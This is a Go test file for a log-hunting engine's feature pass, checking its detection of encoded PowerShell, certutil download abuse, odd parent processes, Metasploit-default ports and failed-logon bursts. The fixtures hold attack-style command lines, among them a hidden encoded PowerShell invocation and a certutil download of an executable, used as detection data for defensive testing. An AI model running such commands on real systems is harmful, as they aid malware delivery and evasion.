package engine

import (
	"context"
	"fmt"
	"math"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"trawl/dsl"
	"trawl/event"
	"trawl/features"
	"trawl/inventory"
)

// featureRow reads the features of the event on the given line of the inserted file name.
func featureRow(t *testing.T, st *Store, file string, line int) map[string]any {
	t.Helper()
	tb, err := st.Query(t.Context(), `SELECT f.* FROM events_features f JOIN files fl ON fl.id = f.file_id WHERE fl.path = ? AND f.line = ?`, file, line)
	if err != nil {
		t.Fatal(err)
	}
	if len(tb.Rows) != 1 {
		t.Fatalf("%s line %d: %d rows", file, line, len(tb.Rows))
	}
	out := map[string]any{}
	for i, c := range tb.Columns {
		out[c] = tb.Rows[0][i]
	}
	return out
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

const helloB64 = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA=="

// TestFeatures runs the feature pass over hand-made events with known answers.
func TestFeatures(t *testing.T) {
	st, _ := openTemp(t)
	importContext(t, st, filepath.Join("..", "inventory", "testdata", "assets.csv"), inventory.Assets)
	proc := func(tm, name, parent, cmd string) event.Event {
		return event.Event{Time: at(tm), Category: "process", Host: "ws1", User: "alice", ProcessName: name, ParentName: parent, CommandLine: cmd}
	}
	net := func(src, dst string, port int64, proto, method, category string) event.Event {
		return event.Event{Time: at("2024-03-04T12:00:00Z"), Category: category, SrcIP: src, DstIP: dst, DstPort: event.IntOf(port), Protocol: proto, HTTPMethod: method}
	}
	fail := func(tm, user string) event.Event {
		return event.Event{Time: at(tm), Category: "logon", Outcome: "failure", User: user, Host: "dc1"}
	}
	evs := []event.Event{
		/* 1 */ proc("2024-03-04T03:00:00Z", "powershell.exe", "cmd.exe", "powershell.exe -nop -w hidden -enc "+helloB64),
		/* 2 */ proc("2024-03-04T12:00:00Z", "svchost.exe", "WINWORD.EXE", `C:\Windows\System32\svchost.exe -k netsvcs`),
		/* 3 */ proc("2024-03-04T12:00:00Z", "svchost.exe", "services.exe", `C:\Windows\System32\svchost.exe -k netsvcs`),
		/* 4 */ proc("2024-03-04T12:00:00Z", "certutil.exe", "cmd.exe", "certutil -urlcache -split -f http://x/a.exe"),
		/* 5 */ net("10.1.2.3", "8.8.8.8", 53, "udp", "", "dns"),
		/* 6 */ net("10.30.1.42", "198.51.100.7", 4444, "tcp", "GET", "network"),
		/* 7 */ net("127.0.0.1", "203.0.113.10", 3389, "tcp", "", "network"),
		/* 8 */ net("100.64.1.1", "169.254.1.1", 50000, "", "", "network"),
		/* 9 */ net("fe80::1", "2001:db8::1", 22, "ssh", "", "network"),
		/* 10 */ net("fd00::1", "224.0.0.251", 2222, "ssh", "", "network"),
		/* 11 */ {Time: at("2024-03-04T12:00:00Z"), Category: "module", ProcessName: "rundll32.exe", Fields: map[string]any{"Signed": "false", "SignatureStatus": "Unavailable"}},
		/* 12 */ fail("2024-03-04T10:00:00Z", "bob"),
		/* 13 */ fail("2024-03-04T10:20:00Z", "bob"),
		/* 14 */ fail("2024-03-04T10:50:00Z", "bob"),
		/* 15 */ fail("2024-03-04T11:30:00Z", "bob"),
		/* 16 */ {Time: at("2024-03-04T11:31:00Z"), Category: "logon", Outcome: "success", User: "bob", Host: "dc1"},
		/* 17 */ {Time: at("2024-03-01T09:00:00Z"), Category: "iam", EventCode: "4720", Action: "user-create", User: "admin", TargetUser: "carol", Host: "dc1"},
		/* 18 */ {Time: at("2024-03-02T09:00:00Z"), Category: "logon", Outcome: "success", User: "carol", Host: "ws2"},
		/* 19 */ proc("2024-03-04T12:00:00Z", "powershell.exe", "explorer.exe", "powershell -EncodedCommand YwBhAGYA6QAgAPwAbQBsAGEAdQB0AA"),
		/* 20 */ proc("2024-03-04T12:00:00Z", "powershell.exe", "explorer.exe", `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1pIC9hbGw=')))"`),
		/* 21 */ proc("2024-03-04T12:00:00Z", "lsass.exe", "", `C:\Windows\system32\lsass.exe`),
		/* 22 */ {Time: at("2024-03-04T12:00:00Z"), Category: "script", Host: "ws1", CommandLine: "$x = [Convert]::FromBase64String('d2hvYW1pIC9hbGw=')"},
		/* 23 */ {Time: at("2024-03-04T12:00:00Z"), Category: "file", Host: "ws1", CommandLine: "$x = [Convert]::FromBase64String('d2hvYW1pIC9hbGw=')"},
	}
	if err := st.InsertEvents(t.Context(), "hand", evs); err != nil {
		t.Fatal(err)
	}
	fs, err := st.UpdateFeatures(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("feature pass: %v, sessions %v", fs.Features, fs.Session)
	if fs.Events != int64(len(evs)) || fs.Decoded != 1 {
		t.Errorf("pass: %+v, want %d events and 1 decoded in Go", fs, len(evs))
	}
	cases := []struct {
		line int
		col  string
		want any
	}{
		{1, "encoded_ps", true},
		{1, "decoded_command", `Write-Output "hello trawl"`},
		{1, "lolbas", false},
		{1, "off_hours", true}, // no history: 03:00 is outside 08-18
		{1, "event_hour", int64(3)},
		{1, "failures_1h", int64(0)}, // a user without failures: not windowed, still 0
		{1, "unexpected_parent", nil},
		{2, "unexpected_parent", true},
		{2, "encoded_ps", false}, // a command line, not PowerShell
		{3, "unexpected_parent", false},
		{3, "off_hours", false},
		{4, "lolbas", true},
		{5, "src_ip_class", "private"},
		{5, "dst_ip_class", "external"},
		{5, "dst_service", "dns"},
		{5, "dst_port_class", "well-known"},
		{5, "port_mismatch", false},
		{5, "user_key", nil},
		{5, "off_hours", nil},
		{6, "src_ip_class", "internal"}, // 10.30.0.0/16 is an asset network
		{6, "dst_ip_class", "documentation"},
		{6, "dst_service", "metasploit-default"},
		{6, "dst_port_class", "registered"},
		{6, "port_mismatch", true}, // HTTP on 4444
		{7, "src_ip_class", "loopback"},
		{7, "dst_ip_class", "internal"}, // web01's public address
		{7, "dst_port_class", "admin"},
		{7, "dst_service", "rdp"},
		{8, "src_ip_class", "cgnat"},
		{8, "dst_ip_class", "link-local"},
		{8, "dst_port_class", "ephemeral"},
		{8, "dst_service", nil},
		{9, "src_ip_class", "link-local"},
		{9, "dst_ip_class", "documentation"},
		{9, "port_mismatch", false},
		{10, "src_ip_class", "private"},
		{10, "dst_ip_class", "multicast"},
		{10, "port_mismatch", true}, // ssh on 2222
		{10, "dst_port_class", "admin"},
		{11, "signed", false},
		{11, "signature_status", "Unavailable"},
		{11, "lolbas", true},
		{12, "failures_1h", int64(1)},
		{13, "failures_1h", int64(2)},
		{14, "failures_1h", int64(3)},
		{15, "failures_1h", int64(2)}, // 10:50 and 11:30
		{16, "failures_1h", int64(2)},
		{17, "new_account", false}, // admin is not new: the store is too short to tell
		{18, "new_account", true},  // carol, two days after her 4720
		{19, "decoded_command", "café ümlaut"},
		{19, "encoded_ps", true},
		{20, "encoded_ps", true},
		{20, "decoded_command", "whoami /all"},
		{21, "unexpected_parent", nil}, // no parent known
		{21, "encoded_ps", false},
		{22, "encoded_ps", true}, // a script block (4104) is PowerShell without saying so
		{22, "decoded_command", "whoami /all"},
		{23, "encoded_ps", false}, // the same text elsewhere is not
		{23, "decoded_command", nil},
	}
	rows := map[int]map[string]any{}
	for _, tc := range cases {
		r, ok := rows[tc.line]
		if !ok {
			r = featureRow(t, st, "hand", tc.line)
			rows[tc.line] = r
		}
		if got := r[tc.col]; fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("line %d %s = %v (%T), want %v", tc.line, tc.col, got, got, tc.want)
		}
	}
	want := features.Entropy(evs[3].CommandLine)
	if got, _ := rows[4]["cmd_entropy"].(float64); math.Abs(got-want) > 1e-9 {
		t.Errorf("cmd_entropy = %v, want %v", got, want)
	}

	// A second pass finds nothing new; a rebuild does every event again, with the same result.
	if fs, err := st.UpdateFeatures(t.Context()); err != nil || fs.Events != 0 {
		t.Errorf("second pass: %+v, %v", fs, err)
	}
	if fs, err := st.RebuildFeatures(t.Context()); err != nil || fs.Events != int64(len(evs)) {
		t.Errorf("rebuild: %+v, %v", fs, err)
	}
	var n int64
	if err := st.db.QueryRowContext(t.Context(), `SELECT count(*) FROM event_features`).Scan(&n); err != nil || n != int64(len(evs)) {
		t.Errorf("event_features rows after rebuild: %d, %v", n, err)
	}
	// Events without features below the highest id with features (imports that finished out
	// of order), and features of an event that is gone, are found by the full check.
	if _, err := st.db.ExecContext(t.Context(), `DELETE FROM event_features WHERE event_id IN (SELECT min(id) FROM events UNION SELECT min(id) + 2 FROM events)`); err != nil {
		t.Fatal(err)
	}
	if _, err := st.db.ExecContext(t.Context(), `INSERT INTO event_features (event_id) VALUES (999999)`); err != nil {
		t.Fatal(err)
	}
	if fs, err := st.UpdateFeatures(t.Context()); err != nil || fs.Events != 2 {
		t.Errorf("pass after removing two events' features: %+v, %v; want 2 events", fs, err)
	}
	if r := featureRow(t, st, "hand", 3); r["unexpected_parent"] != false {
		t.Errorf("line 3 recomputed: unexpected_parent %v", r["unexpected_parent"])
	}
	if err := st.db.QueryRowContext(t.Context(), `SELECT count(*) FROM event_features`).Scan(&n); err != nil || n != int64(len(evs)) {
		t.Errorf("event_features rows after the full check: %d, %v; want the stale row gone", n, err)
	}
}

// TestFeatureColumns keeps migration 006 and features.Columns in step: the view has every
// events column and then the feature columns in order, with their types.
func TestFeatureColumns(t *testing.T) {
	st, _ := openTemp(t)
	tb, err := st.Query(t.Context(), `SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'event_features' ORDER BY ordinal_position`)
	if err != nil {
		t.Fatal(err)
	}
	if len(tb.Rows) != len(features.Columns)+1 {
		t.Fatalf("event_features has %d columns, features.Columns %d (+ event_id)", len(tb.Rows), len(features.Columns))
	}
	for i, c := range features.Columns {
		r := tb.Rows[i+1]
		if r[0] != c.Name || r[1] != string(c.Type) {
			t.Errorf("column %d: table %v %v, features %s %s", i+1, r[0], r[1], c.Name, c.Type)
		}
	}
}

// TestFeatureHunts runs hunting-language queries that name feature columns against the store:
// they read the events_features view.
func TestFeatureHunts(t *testing.T) {
	st, _ := openTemp(t)
	evs := []event.Event{
		{Time: at("2024-03-04T02:00:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "svchost.exe", ParentName: "winword.exe", CommandLine: "svchost.exe -k x"},
		{Time: at("2024-03-04T12:00:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "svchost.exe", ParentName: "services.exe", CommandLine: "svchost.exe -k x"},
		{Time: at("2024-03-04T02:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "certutil.exe", ParentName: "cmd.exe", CommandLine: "certutil -urlcache -f http://x/y"},
		{Time: at("2024-03-04T12:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "certutil.exe", ParentName: "cmd.exe", CommandLine: "certutil -urlcache -f http://x/y"},
		{Time: at("2024-03-04T12:30:00Z"), Category: "process", Host: "ws1", User: "alice", ProcessName: "powershell.exe", CommandLine: "powershell -enc " + helloB64},
	}
	if err := st.InsertEvents(t.Context(), "hunt", evs); err != nil {
		t.Fatal(err)
	}
	if _, err := st.UpdateFeatures(t.Context()); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ query, want string }{
		{`process | where unexpected_parent | fields line, parent_name`, "1 winword.exe"},
		{`process | where lolbas and off_hours | fields line, process_name`, "3 certutil.exe"},
		{`process | where cmd_entropy > 3 and not encoded_ps | sort line | fields line`, "1; 2; 3; 4"},
		{`process | where encoded_ps | fields decoded_command`, `Write-Output "hello trawl"`},
		{`process | stats count() as n by lolbas | sort lolbas | fields lolbas, n`, "false 3; true 2"},
		{`sequence by host within 1h [process where unexpected_parent] then [process where lolbas] | fields host`, "ws1"},
	} {
		c, err := dsl.Build(tc.query, dsl.EventCatalogue())
		if err != nil {
			t.Fatalf("%s: %s", tc.query, dsl.FormatError(tc.query, err))
		}
		tb, err := st.Query(t.Context(), c.SQL, c.Args...)
		if err != nil {
			t.Fatalf("%s: %v\n%s", tc.query, err, c.SQL)
		}
		var rows []string
		for _, r := range tb.Rows {
			var f []string
			for _, v := range r {
				f = append(f, fmt.Sprint(v))
			}
			rows = append(rows, strings.Join(f, " "))
		}
		if got := strings.Join(rows, "; "); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.query, got, tc.want)
		}
	}
}

// TestFeaturesAfterImport: import runs the pass itself, for the new events only, and a file
// imported later gets its features computed against the history before it.
func TestFeaturesAfterImport(t *testing.T) {
	st, _ := openTemp(t)
	dir := t.TempDir()
	var a, b strings.Builder
	for d := 1; d <= 5; d++ { // alice works 09:00-17:00 for five days: 45 events
		for h := 9; h <= 17; h++ {
			fmt.Fprintf(&a, "2024-03-%02dT%02d:10:00Z|alice|ws1|10.0.0.5|work\n", d, h)
		}
	}
	for i := range 10 { // more history, then one late event in a second file
		fmt.Fprintf(&a, "2024-03-06T1%d:20:00Z|alice|ws1|10.0.0.5|work\n", i)
	}
	// 18:30 is usual for alice (her 17:00 and 18:00 events), though outside the fallback hours.
	b.WriteString("2024-03-06T23:30:00Z|alice|ws1|10.0.0.5|late\n2024-03-06T18:30:00Z|alice|ws1|10.0.0.5|evening\n")
	for _, f := range []struct{ name, text string }{{"a.log", a.String()}, {"b.log", b.String()}} {
		res := st.ImportFiles(t.Context(), []string{writeFile(t, dir, f.name, f.text)}, ImportOptions{})
		if res[0].Err != nil {
			t.Fatal(res[0].Err)
		}
	}
	var n, late, evening int64
	err := st.db.QueryRowContext(t.Context(), `SELECT count(*),
		count(*) FILTER (WHERE message = 'late' AND off_hours AND event_hour = 23),
		count(*) FILTER (WHERE message = 'evening' AND NOT off_hours)
		FROM events_features WHERE src_ip_class = 'private'`).Scan(&n, &late, &evening)
	if err != nil {
		t.Fatal(err)
	}
	if n != 57 || late != 1 || evening != 1 {
		t.Errorf("after two imports: %d events with features (want 57), late off-hours %d, evening usual %d", n, late, evening)
	}
	if fs, err := st.UpdateFeatures(t.Context()); err != nil || fs.Events != 0 {
		t.Errorf("a pass after the imports found %+v, %v", fs, err)
	}
}

// TestFeaturesHostile: hostile command lines and fields give NULLs or false, never a failed pass.
func TestFeaturesHostile(t *testing.T) {
	st, _ := openTemp(t)
	cmds := []string{
		"powershell -enc " + strings.Repeat("A", 1<<20), // a megabyte of zero bytes
		"powershell -enc ========",
		"powershell -enc QUJD*&^%$",
		"powershell -enc " + strings.Repeat("/+", 64),
		"powershell -e \xff\xfe\x00garbage",
		"powershell [Convert]::FromBase64String('" + strings.Repeat("H4sI", 40) + "')", // a broken gzip header
		strings.Repeat("powershell -enc ", 2000),
		"",
	}
	var evs []event.Event
	for _, c := range cmds {
		evs = append(evs, event.Event{Time: at("2024-03-04T12:00:00Z"), Category: "process", ProcessName: "powershell.exe", CommandLine: c})
	}
	evs = append(evs,
		event.Event{Category: "module", Fields: map[string]any{"Signed": "maybe", "SignatureStatus": strings.Repeat("x", 1000)}},
		event.Event{Category: "network", SrcIP: "not an ip", DstIP: "999.1.1.1", DstPort: event.IntOf(-1)},
	)
	if err := st.InsertEvents(t.Context(), "hostile", evs); err != nil {
		t.Fatal(err)
	}
	fs, err := st.UpdateFeatures(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if fs.Events != int64(len(evs)) {
		t.Errorf("pass over %d events, want %d", fs.Events, len(evs))
	}
	var decoded, signed, classes int64
	if err := st.db.QueryRowContext(t.Context(), `SELECT count(decoded_command), count(signed), count(src_ip_class) + count(dst_ip_class) FROM event_features`).Scan(&decoded, &signed, &classes); err != nil {
		t.Fatal(err)
	}
	if decoded != 0 || signed != 0 || classes != 0 {
		t.Errorf("decoded %d, signed %d, address classes %d; want none", decoded, signed, classes)
	}
}

// TestPassThreads: the passes after an import into a small store run with one DuckDB thread,
// and the store gets its threads back, also when the import's context is cancelled during the
// passes.
func TestPassThreads(t *testing.T) {
	st, err := Open(t.Context(), filepath.Join(t.TempDir(), "t.duckdb"), Options{Threads: 3})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx, cancel := context.WithCancel(t.Context())
	restore := st.passThreads(ctx)
	during := count(t, st, `SELECT current_setting('threads')`)
	cancel()
	restore()
	if during != 1 {
		t.Errorf("threads during the passes = %d, want 1", during)
	}
	if n := count(t, st, `SELECT current_setting('threads')`); n != 3 {
		t.Errorf("threads after the passes, their context cancelled = %d, want 3", n)
	}
}
